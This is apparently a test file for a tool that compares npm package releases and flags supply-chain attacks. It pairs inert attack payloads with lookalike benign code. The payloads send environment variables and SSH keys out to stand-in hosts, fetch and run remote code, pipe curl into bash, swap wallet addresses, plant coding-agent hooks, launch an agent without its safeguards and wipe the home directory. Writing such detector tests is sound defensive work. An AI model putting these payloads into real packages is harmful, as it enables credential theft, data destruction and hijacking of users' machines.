/** Pairs of releases in the shapes of recorded attacks, inert and with hosts that do not exist, and ordinary releases that look alike. */
import { expect, test } from "vitest";
import { analyse } from "../../src/core/analysis/analyse.ts";
import type { CodeDone } from "../../src/core/analysis/code-facts.ts";
import { codeFacts } from "../../src/core/analysis/difference.ts";
import { instant } from "../../src/core/base/time.ts";
import type { Facts } from "../../src/core/facts/facts.ts";
import { capabilityAdded } from "../../src/core/signals/capability-added.ts";
import type { SignalInput } from "../../src/core/signals/check.ts";
import { pack } from "./archives.ts";

type Files = Readonly<Record<string, string>>;
type Manifest = Readonly<Record<string, unknown>>;

const LIBRARY = "export function add(a, b) {\n  return a + b;\n}\n";

function difference(before: Files, after: Files, manifest: Manifest = {}, oldManifest: Manifest = manifest): CodeDone {
  const predecessor = { version: "1.0.0", report: analyse(pack(before, oldManifest)) };
  const report = analyse(pack(after, { version: "1.0.1", ...manifest }));
  // What was read for the predecessor is taken over, and changes nothing.
  expect(analyse(pack(after, { version: "1.0.1", ...manifest }), { known: predecessor.report })).toEqual(report);
  return codeFacts(report, predecessor, { name: "sample", version: "1.0.1" });
}

const signal = (code: CodeDone) => capabilityAdded({ facts: { code, firstSeen: instant(0), start: instant(0) } as Facts } as SignalInput);

/** Each payload is added to a library that could do nothing. */
const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> = {
  "environment sent whole": [
    "secrets-out environment",
    `const data = { env: process.env, cwd: process.cwd() };\nfetch("https://collect.test/in", { method: "POST", body: JSON.stringify(data) });`,
  ],
  "environment by alias": [
    "secrets-out environment",
    `const { env } = process; const https = require("node:https");\nconst r = https.request("https://c.test"); r.end(JSON.stringify({ ...env }));`,
  ],
  "keys of ssh, put together": [
    "secrets-out ssh",
    `const fs = require("fs"); const d = require("os").homedir();\nconst k = fs.readFileSync(d + "/.ss" + "h/id_" + "rsa"); fetch("https://collect.test", { body: k });`,
  ],
  "cloud metadata": ["secrets-out metadata", `const r = await fetch("http://169.254.169.254/latest/meta-data/"); export default r;`],
  "a list of secrets": ["secret-list ", `for (const p of [".aws/credentials", ".kube/config", ".docker/config.json"]) read(p);`],
  "npm's settings beside two other secrets": ["secret-list ", `for (const p of [".npmrc", ".ssh/id_rsa", ".aws/credentials"]) read(p);`],
  "decoded and run": ["decode-run ", `const t = Buffer.from(text, "base64").toString(); eval(t);`],
  "decoded by xor and compiled": [
    "decode-run ",
    `let o = ""; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 77); module._compile(o, "x");`,
  ],
  "hidden eval": ["decode-run ", `globalThis["ev" + "al"](atob(text));`],
  "fetched in pieces and run": [
    "fetch-run ",
    `require("https").get("https://code.test/x", (a) => { let t = ""; a.on("data", (c) => (t += c)); a.on("end", () => new Function(t)()); });`,
  ],
  "fetched and run": ["fetch-run ", `fetch("https://code.test/x").then((r) => r.text()).then((t) => new Function("require", t)(require));`],
  "a runtime fetched": ["alien-run pipe", `require("child_process").execSync("curl -fsSL https://tool.test/install | bash");`],
  "republishes itself": ["publish-self publish", `const { execSync: run } = require("child_process"); run("npm publish --access public");`],
  "hooks the browser for wallets": [
    "wallet-hook ",
    `const old = window.fetch; window.fetch = async (...a) => swap(await old(...a));\nwindow.ethereum.request({ method: "eth_sendTransaction" });`,
  ],
  "plants an agent hook and starts it": [
    "persist agent",
    `const { writeFileSync } = require("fs"); writeFileSync(".claude/settings.json", hook); require("child_process").spawn("node", [".claude/x.js"]);`,
  ],
  "plants an agent hook": ["persist agent", `fs.writeFileSync(".claude/settings.json", JSON.stringify(h)); fetch("https://c.test/" + id);`],
  "deletes the home": ["wipe home", `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`],
  "hooks a bare fetch beside a table of addresses": [
    "wallet-hook ",
    `const theirs = ${JSON.stringify(["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "0x52908400098527886E0F7030069857D2E4169EE7", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8", "LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1"])};
const old = fetch; fetch = async function (...a) { return swap(await old(...a), theirs); };`,
  ],
  "hooks a wallet by another name": [
    "wallet-hook ",
    `const w = window.ethereum; const ask = w.request; Object.defineProperty(w, "request", { value: (a) => ask(swap(a)) });`,
  ],
  "swaps addresses on the clipboard": [
    "clipboard-swap ",
    String.raw`const t = await navigator.clipboard.readText(); if (/\b0x[a-fA-F0-9]{40}\b/.test(t)) navigator.clipboard.writeText(mine);`,
  ],
  "swaps addresses by the system's commands": [
    "clipboard-swap ",
    String.raw`const { execSync } = require("child_process"); const t = execSync("pbpaste"); if (/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/.test(t)) execSync("echo x | pbcopy"); const r = "\b0x[a-fA-F0-9]{40}";`,
  ],
  "deletes the home by its variable": [
    "wipe home",
    "const { rmSync } = require('fs'), path = require('path'); require('fs').rmSync(path.join(process.env.USERPROFILE, '*'), { recursive: true });",
  ],
  "deletes the home by a template": [
    "wipe home",
    "import os from 'os'; import fs from 'fs'; fs.rmSync(`${os.homedir()}/`, { recursive: true });",
  ],
  "shreds the home": [
    "wipe home",
    `require("child_process").execSync('find "$HOME" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1');`,
  ],
  "deletes itself after it ran": [
    "cover-up ",
    `const fs = require("fs"), { exec } = require("child_process"); exec("curl -o x https://c.test/x"); fs.unlink(__filename, () => {});`,
  ],
  "the files of wallets sent": [
    "secrets-out wallet",
    `const fs = require("fs"); fetch("https://c.test", { body: fs.readFileSync(d + "/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa") });`,
  ],
  "short code, decoded": ["decode-run ", `eval(atob("YWxlcnQoMSk="));`],
  "short code, decoded by a constant": ["decode-run ", `const c = Buffer.from("cnVuKCk=", "base64").toString(); new Function(c)();`],
  "letters nobody sees": ["hidden-text hidden", `run("${"\u{e0100}\u{e0101}\u{e0102}\u{e0103}".repeat(8)}");`],
  "an obfuscator's names": [
    "unreadable hex-names",
    Array.from({ length: 60 }, (_, n) => `const _0x${(n + 4096).toString(16)}a = _0x${(n + 8192).toString(16)}b(${n});`).join("\n"),
  ],
};

test.each(Object.entries(ATTACKS))("seen: %s", (_what, [chain, payload]) => {
  for (const code of [`${LIBRARY}\n${payload}`, `${payload}\n//${"x".repeat(100_000)}\n${LIBRARY}`]) {
    const found = difference({ "index.js": LIBRARY }, { "index.js": code });
    expect(found.chains.map(({ id, key }) => `${id} ${key}`)).toContain(chain);
    const said = signal(found);
    expect(said?.effect).toEqual({ kind: "review" });
    expect(said!.evidence[0]!.source).toMatch(/^index\.js:\d+$/);
  }
});

test("a string is found in code wherever its pattern is anchored", () => {
  for (const [text, id] of [
    ["/home/x/.npmrc", "npm-config"],
    ["_netrc", "credentials"],
    [".ssh", "credentials"],
    [".aws", "credentials"],
    ["~/.bashrc", "persistence"],
    [Array.from({ length: 60 }, (_, n) => n + 40).join(","), "hidden-name"],
  ] as const)
    expect(analyse(pack({ "index.js": `use("${text}");` })).capabilities.map((one) => one.id)).toEqual([id]);
});

test("escapes hide nothing", () => {
  const { capabilities, hosts, imports } = analyse(
    pack({ "index.js": String.raw`require("\x63hild_process"); use("~/\u002essh/id", "https:\/\/a.test", globalThis["\x65val"](x));` }),
  );
  expect(capabilities.map(({ id }) => id)).toEqual(["credentials", "dynamic-code", "hidden-name", "process"]);
  expect([hosts, imports]).toEqual([["a.test"], ["child_process"]]);
});

test("a payload appended to a bundle that can do everything is seen by what stands together", () => {
  const bundle = `${'import http from "http";\nimport { spawn } from "child_process";\nspawn("x");\nhttp.get("http://a.test");\n'}${"let a = 1;\n".repeat(6_000)}`;
  const found = difference({ "index.js": bundle }, { "index.js": `${bundle}\n${ATTACKS["environment by alias"]![1]}` });
  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "environment", line: 6_007 }]);
});

test.each<[string, string]>([
  ["an option of a request", `require("https").request({ host: "a.test", path: "/x", port: 443 });`],
  ["the name that wins over it", `import https from "node:https"; https.get({ hostname: "a.test" }, read);`],
  ["with its port", `require("http").request({ host: "a.test:8080" });`],
  ["a named import", `import { connect } from "node:net"; connect({ port: 1, host: "a.test" });`],
  ["a bound request", `const { request } = require("https"); request({ "host": "a.test" });`],
  ["a socket by port and host", `require("net").connect(443, "a.test");`],
  ["a socket under TLS", `require("tls").connect(443, "a.test", {});`],
  ["options that were put aside", `const where = { host: "a.test", method: "POST" }; require("https").request(where, end);`],
  ["a host put together", `const h = "a." + "test"; require("https").request({ host: h });`],
  ["beside a URL", `require("https").request(new URL(x), { hostname: "a.test" });`],
  ["an address", `new (require("net").Socket)().connect(80, "203.0.113.9"); // a.test`],
  ["a lookup", `require("dns").lookup("a.test", done);`],
])("hosts named by options are hosts: %s", (what, code) => {
  const { hosts } = analyse(pack({ "index.js": code }));
  expect(hosts).toEqual([what === "an address" ? "203.0.113.9" : "a.test"]);
});

test("what is called host elsewhere is none", () => {
  const code = `const f = { host: "a.test" }; listen({ host: "b.test" }); require("path").join({ host: "c.test" }); require("https").request({ host: "/tmp/x.sock", hostname: "localhost" });`;
  expect(analyse(pack({ "index.js": code })).hosts).toEqual([]);
});

test("what runs on install counts alone, along scripts, shell chains, gyp and imports", () => {
  const payload = 'require("https").get("https://c.test");';
  for (const [files, manifest] of [
    [{ "setup.js": payload }, { scripts: { postinstall: "echo hi && node ./setup" } }],
    [{ "a.js": 'require("./lib/b");', "lib/b.js": payload }, { scripts: { preinstall: "npm run go", go: "node a.js" } }],
    [{ "data.txt": payload }, { scripts: { install: "node -e \"require('./data.txt')\"" } }],
    [{ "a b.js": payload }, { scripts: { install: "node 'a b.js'" } }],
    [{ "a b.js": payload }, { scripts: { install: 'node "./a b"' } }],
    [{ "a b.js": payload }, { scripts: { install: "node a\\ b.js" } }],
    [{ "a;b's.js": payload }, { scripts: { install: `node 'a;b'\\''s.js'` } }],
    [{ "a#b.js": payload }, { scripts: { install: "node a#b.js" } }],
    [{ "a?b.js": payload }, { scripts: { install: "node 'a?b.js'" } }],
    [{ "a.js": "require('./b#c.js');", "b#c.js": payload }, { scripts: { install: "node a" } }],
    [{ "lib/a.js": payload }, { scripts: { install: "cd lib && node a.js" } }],
    [{ "lib/my tools/a.js": payload }, { scripts: { install: "cd lib; cd 'my tools'; node a" } }],
    [{ "binding.gyp": '{"targets":[{"sources":["<!(node x.js)"]}]}', "x.js": payload }, {}],
  ] as const) {
    const found = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, ...files } as Files, manifest, {});
    expect(found.install.map(({ id }) => id)).toContain("network");
    expect(signal(found)).toMatchObject({ effect: { kind: "review" }, title: "its code talks to the network on install, 1.0.0 did not" });
  }
  const piped = difference({}, {}, { scripts: { postinstall: "curl -s https://x.test/i | sh" } }, {});
  expect(piped.chains).toMatchObject([{ id: "alien-run", path: "package.json", install: true }]);
});

test("what was there before is no news, wherever it moves", () => {
  const old = `${LIBRARY}${ATTACKS["keys of ssh, put together"]![1]}`;
  const found = difference({ "index.js": old }, { "lib/moved.js": `\n\n${old}\n// more`, "index.js": 'export * from "./lib/moved.js";' });
  expect([found.chains, found.added, signal(found)]).toEqual([[], [], undefined]);
});

const ORDINARY: Readonly<Record<string, string>> = {
  "a client that reads one variable": `const key = process.env.API_KEY; export const call = (b) => fetch("https://api.test", { body: JSON.stringify({ key, b }) });`,
  "a child with the environment": `import { spawn } from "node:child_process"; export const run = (c) => spawn(c, { env: { ...process.env, CI: "1" } });`,
  "filtered variables": `import http from "http"; const shown = Object.keys(process.env).filter((k) => k.startsWith("APP_")); http.createServer(() => shown);`,
  "the global object by old means": `var root = Function("return this")(); var ok = new Function("return async () => {}"); fetch("/x");`,
  "base64 of a request": `export const auth = (u, p) => "Basic " + Buffer.from(u + ":" + p).toString("base64"); export const d = (t) => Buffer.from(t, "base64"); fetch("/x");`,
  "templates compiled": `export function compile(source) { return new Function("data", "return " + source); }`,
  "a list of names": `export const secrets = [".npmrc", ".env", "id_token", ".github", "awsome"];`,
  "a progress bar of bytes": `export const table = [${Array.from({ length: 400 }, (_, n) => n).join(",")}];`,
  "escaped letters of many alphabets": `export const letters = /[${"\\u0100-\\u0250\\u0400-\\u0500".repeat(100)}]/;`,
  "emoji with variation selectors": `export const heart = "\u2764\ufe0f \u2764\ufe0f \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67";`,
  "an opened browser": `import { execFile } from "child_process"; export const open = (u) => execFile("osascript", ["-e", u]);`,
  "a wrapped fetch": `const original = globalThis.fetch; globalThis.fetch = (...a) => trace(() => original(...a));`,
  "its own cache removed": `import fs from "fs"; import os from "os"; import path from "path"; fs.rmSync(path.join(os.tmpdir(), "sample"), { recursive: true });`,
  "a shell hint": `import { spawn } from "child_process"; spawn("x"); console.log("Add it to your ~/.bashrc");`,
  "a folder of its own in the home removed": `import fs from "fs"; import os from "os"; import path from "path"; fs.rmSync(path.join(os.homedir(), ".sample"), { recursive: true });`,
  "contracts of one chain": `export const contracts = [${Array.from({ length: 9 }, (_, n) => `"0x${String(n).repeat(40)}"`).join(",")}]; const old = window.fetch; window.fetch = (...a) => old(...a);`,
  "a copy button": `export const copy = (text) => navigator.clipboard.writeText(text);`,
  "a downloaded archive removed": `import fs from "fs"; import https from "https"; import path from "path"; https.get("https://x.test/a.tgz"); fs.unlinkSync(path.join(__dirname, "a.tgz"));`,
  "a fetch for old runtimes": `let fetch = globalThis.fetch; if (!fetch) fetch = require("node-fetch"); export { fetch };`,
  "features probed": `const has = (() => { try { new Function("async () => {}"); return eval("1 + 1") === 2; } catch { return false; } })(); export { has };`,
  "a minified module": `!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=/a/,n=function(t){return e.exec(t)};return{x:n,e:1e3}});`,
  "a document with a key": `export const pem = "-----BEGIN CERTIFICATE-----" + "${"MIIB".repeat(30)}";`,
};

test.each(Object.entries(ORDINARY))("not held: %s", (_what, code) => {
  const found = difference({ "index.js": LIBRARY }, { "index.js": `${LIBRARY}\n${code}` });
  expect(found.chains).toEqual([]);
  expect(signal(found)?.effect.kind ?? "note").toBe("note");
});

test("a first release is judged by what a young name does on install, and by nothing else", () => {
  const report = (files: Files, manifest: Manifest) =>
    codeFacts(analyse(pack(files, manifest)), undefined, { name: "sample", version: "1.0.0" });
  const ask = (code: CodeDone, packageSince: number) =>
    capabilityAdded({
      facts: { code, firstSeen: instant(packageSince), start: instant(packageSince), release: { packageSince: instant(0) } },
    } as unknown as SignalInput);
  const payload = ATTACKS["environment sent whole"]![1];
  const atInstall = report({ "setup.js": payload }, { scripts: { postinstall: "node setup.js" } });
  expect(ask(atInstall, 0)?.effect).toEqual({ kind: "review" });
  expect(ask(atInstall, 91 * 86_400_000)).toBeUndefined();
  expect(ask(report({ "index.js": payload }, {}), 0)).toBeUndefined();
});

test("a hook that an editor runs is seen by what it says, not by its name", () => {
  const hook = '{"version":"2.0.0","tasks":[{"runOptions":{"runOn":"folderOpen"}}]}';
  expect(difference({}, { ".vscode/tasks.json": hook }).chains).toMatchObject([{ id: "editor-hook" }]);
  expect(difference({}, { ".vscode/tasks.json": '{"tasks":[]}' }).chains).toEqual([]);
});

test("dependencies: imported, named in configuration, or nowhere", () => {
  const dependencies = { imported: "1", named: "1", nowhere: "1", "@types/x": "1", old: "1" };
  const files = { "index.js": 'import "imported/deep";', "config.json": '{"plugins":["named"]}', "README.md": "nowhere" };
  expect(difference({}, files, { dependencies }, { dependencies: { old: "1" } }).unimported).toEqual(["nowhere"]);
});

const READS = `import fs from "fs"; import os from "os";\nexport const keys = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");`;
const SENDS = `import { keys } from "./a.js";\nfetch("https://c.test", { body: keys });`;

test("a chain of two files, one of which imports the other", () => {
  const found = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, "lib/a.js": READS, "lib/b.js": SENDS });
  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "ssh across files", path: "lib/a.js", line: 2 }]);
  expect(signal(found)?.evidence[0]?.text).toContain("data is sent in lib/b.js");
  // The importing one may as well be the one that reads.
  const turned = {
    "lib/a.js": `import { send } from "./b.js";\n${READS}\nsend(keys);`,
    "lib/b.js": `export const send = (body) => fetch("https://c.test", { body });`,
  };
  expect(difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, ...turned }).chains).toMatchObject([{ key: "ssh across files" }]);
});

test("two files that have nothing to do with each other make no chain, nor does one that only names secrets", () => {
  const apart = { "lib/a.js": READS, "lib/b.js": `fetch("https://c.test");` };
  expect(difference({ "index.js": LIBRARY }, apart).chains).toEqual([]);
  const named = { "lib/a.js": `export const ignored = [".ssh/id_rsa"];`, "lib/b.js": SENDS };
  expect(difference({ "index.js": LIBRARY }, named).chains).toEqual([]);
});

test("a chain across files hides no chain within one", () => {
  const before = { "lib/a.js": READS, "lib/b.js": SENDS };
  const found = difference(before, { ...before, "index.js": `${READS}\nfetch("https://c.test", { body: keys });` });
  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "ssh", path: "index.js" }]);
});

test("a coding agent started without its safeguards: by a file that could start nothing before", () => {
  const runs = (flags: string) => `const { spawn } = require("child_process");\nspawn("claude", ["-p", prompt, ${flags}]);\n`;
  const added = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY + runs(`"--dangerously-skip-permissions"`) });
  expect(signal(added)).toMatchObject({
    effect: { kind: "review" },
    title: expect.stringContaining("starts a coding agent without its safeguards"),
  });
  expect(signal(difference({ "index.js": LIBRARY }, { "index.js": LIBRARY + runs(`"--model", "x"`) }))).toMatchObject({
    effect: { kind: "note" },
  });
  // What started agents all along may learn a flag.
  const wrapper = difference({ "index.js": runs("") }, { "index.js": runs(`"--dangerously-skip-permissions"`) });
  expect(signal(wrapper)).toMatchObject({ effect: { kind: "note" } });
});
